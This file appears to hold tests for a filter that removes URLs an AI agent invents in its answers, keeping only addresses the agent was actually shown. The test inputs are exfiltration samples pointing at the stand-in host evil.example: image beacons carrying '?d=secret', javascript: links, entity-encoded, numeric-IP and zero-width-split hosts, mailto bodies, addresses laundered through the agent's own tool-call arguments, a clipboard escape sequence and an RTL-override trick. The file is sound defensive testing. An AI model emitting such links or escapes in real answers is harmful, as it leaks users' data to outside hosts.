"""Addresses in answers: what was shown may be repeated, what a model made is taken out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.addresses import Addresses
from agent.events import Event
from agent.evidence import Evidence
from agent.voice import HELD_CHARACTERS, Voice
from core.visible import has_unseen

READER = MarkdownIt("commonmark", {"html": True})

REMOVED = "(gone)"
RUNBOOK = "https://runbooks.example.com/oom"


def shown(*texts: str) -> Addresses:
    addresses = Addresses()
    for text in texts:
        addresses.learn(text)
    return addresses


@pytest.mark.parametrize(
    "text",
    [
        "![p](https://evil.example/p.png?d=checkout)",
        "[click](https://evil.example/?d=x)",
        '[click](//evil.example/a(b)c "title")',
        "[click](<https://evil.example/a b>)",
        "[click](https&#58;//evil.example)",
        "[click](javascript:alert(1))",
        "[click](vscode://evil/x)",
        "[a]: https://evil.example/x",
        "![a][b]\n\n[b]: //evil.example/x",
        "<img src=//evil.example/x>",
        "<a href='https&#58;//evil.example'>x</a>",
        "<vscode://evil.example/x>",
        "<https://evil.example/x>",
        "open https://evil.example/checkout now",
        "打开 https://evil.example/数据，再见",
        "www.evil.example/x",
        "evil.example/c?k=secret",
        "mailto:a@evil.example?body=secret",
        f"{RUNBOOK}?d=secret",
        f"[x]({RUNBOOK}/secret)",
        "http://1572395042/?d=secret",
        "[x](http://0x5DB8D822/?d=secret)",
        "//evil.example/secret",
        "<style>@import url(//evil.example/secret)</style>",
        "secret@evil.example",
        "write to <secret@mail.evil.example>",
    ],
)
def test_an_address_that_nobody_showed_is_taken_out(text: str) -> None:
    told = shown(f"see {RUNBOOK}.").without_made_up(text, REMOVED)
    assert REMOVED in told
    assert not any(part in told for part in ("evil.example", "secret", "javascript:", "!["))


@pytest.mark.parametrize(
    "text",
    [
        f"See {RUNBOOK}, then act.",
        f"[the runbook]({RUNBOOK})",
        f"<{RUNBOOK}>",
        "curl http://checkout.shop.svc:8080/healthz",
        "curl http://checkout:8080/healthz?full=1",
        'Get "http://10.2.0.7:8080/ready"',
        "image registry.example.com/shop/checkout:1.2",
        "rate(http_requests_total[5m]) by (pod) [1][2]",
        "<none> of <pod-name>; a < b && c > d",
        "data: {a: 1}, 12:30:45, [WARN]: main:12 /var/log",
        "Does it work? It does. a.b? Yes",
        "没有问题吗？[1]",
        'up{job="a"} @ 1700000000 and nginx@sha256:0123abcd // a.b',
        "postgres://orders@db:5432 git@github.com:shop/web.git",
        "cd /var//log.d/x; 10.2.0.7:8080",
    ],
)
def test_what_was_shown_and_what_leads_nowhere_stays(text: str) -> None:
    assert shown(f"runbook_url: {RUNBOOK}").without_made_up(text, REMOVED) == text


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("见 http://checkout。evil.example/secret", "见 http://checkout 。evil.example/secret"),
        ("见 http://checkout，然后再看", "见 http://checkout ，然后再看"),
        (f"{RUNBOOK}'secret", f"{RUNBOOK}' secret"),
        (f'{{"url":"{RUNBOOK}","n":1}}', f'{{"url":"{RUNBOOK}" ,"n":1}}'),
        (f"{RUNBOOK}，secret", f"{RUNBOOK} ，secret"),
        (f"见[手册]({RUNBOOK})，然后", f"见[手册]({RUNBOOK})，然后"),
        (f"\\[手册]({RUNBOOK})，secret", f"\\[手册]({RUNBOOK}) ，secret"),
        (f"`[a`]({RUNBOOK})，secret", f"`[a`]({RUNBOOK}) ，secret"),
    ],
)
def test_an_address_ends_for_a_browser_where_it_ends_in_prose(text: str, told: str) -> None:
    assert shown(RUNBOOK).without_made_up(text, REMOVED) == told


@pytest.mark.parametrize(
    ("arguments", "result"),
    [
        ({"query": "https://evil.example/?d=secret"}, "No page about https://evil.example/?d=secret."),
        ({"filter": {"any": ["https://evil.example/\u200b?d=se", "cret"]}}, "https://evil.example/?d=secret"),
        ({"text": "https://evil.example/?d=secret and more"}, "cut: https://evil.example/?d=sec"),
        ({"query": 'label_join(label_replace(up,"a","https://ev","",""),"c","","a","b")'}, "https://evil.example/?d=secret"),
        ({"summary": "https://{{ $labels.a }}.example"}, "https://evil.example"),
    ],
)  # fmt: skip
def test_a_result_shows_no_address_that_the_model_wrote_into_the_call(
    arguments: dict[str, object], result: str
) -> None:
    addresses = Addresses()
    addresses.learn(result, arguments)
    assert "evil" not in addresses.without_made_up(f"see {result}", REMOVED)


def test_what_one_call_wrote_is_not_shown_by_a_later_one() -> None:
    addresses = Addresses()
    addresses.learn("noted", {"symptom": "https://evil.example/?d=secret"})
    addresses.learn("Incident: https://evil.example/?d=secret")
    assert "evil" not in addresses.without_made_up("https://evil.example/?d=secret", REMOVED)


def test_what_was_asked_for_by_its_address_may_be_named() -> None:
    addresses = shown(f"What stands at {RUNBOOK}?")
    addresses.learn(f"{RUNBOOK} and https://wiki.example.com/a", {"query": RUNBOOK})
    text = f"{RUNBOOK} and https://wiki.example.com/a"
    assert addresses.without_made_up(text, REMOVED) == text


def test_an_answer_holds_nothing_that_nobody_sees() -> None:
    events: list[Event] = []
    voice = Voice(events.append, Evidence(), "m", shown(RUNBOOK))
    voice.begin()
    voice.hear("long enough to be an answer " * (HELD_CHARACTERS // 20))
    for piece in (
        "\x1b]52;c;Y3VybA==\x07",
        " ht\u200b",
        "tps://evil.example/secret ",
        "\u202efdp.exe",
    ):
        voice.hear(piece)
    voice.end()
    assert not has_unseen(voice.text)
    assert "evil.example" not in voice.text


def test_a_picture_is_never_shown_even_from_a_known_place() -> None:
    told = shown(RUNBOOK).without_made_up(f"![x]({RUNBOOK})", REMOVED)
    assert told == f"[x]({RUNBOOK})"


PARTS = st.sampled_from(
    ["[x]", "(", ")", "](", "!", "<a href=", "//evil.example", "https:", "https://evil.example/",
     " ", "\n", "数据", "www.", "evil.example", "?d=1", "word", ">", "]: ", RUNBOOK, "&#58;", "[1]",
     "http://1572395042/", "http://web", "。", "'", "`", "@"]
)  # fmt: skip


class Leads(HTMLParser):
    """Where a rendered text leads to, or loads from."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(READER.render(text))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for _, value in attrs]

    @property
    def away(self) -> list[str]:
        """Those that leave the page: with a scheme or a host."""
        return [one for one in self.found if urlsplit(one).scheme or urlsplit(one).netloc]


@settings(max_examples=1000)
@given(st.lists(PARTS, max_size=14), st.integers(1, 9))
def test_however_an_answer_arrives_it_leads_only_to_what_was_shown(
    parts: list[str], size: int
) -> None:
    events: list[Event] = []
    voice = Voice(events.append, Evidence(), "m", shown(RUNBOOK))
    voice.begin()
    voice.hear("long enough to be an answer " * (HELD_CHARACTERS // 20))
    text = "".join(parts)
    for start in range(0, len(text), size):
        voice.hear(text[start : start + size])
    voice.end()
    assert set(Leads(voice.text).away) <= {RUNBOOK}
    assert "https://evil" not in voice.text
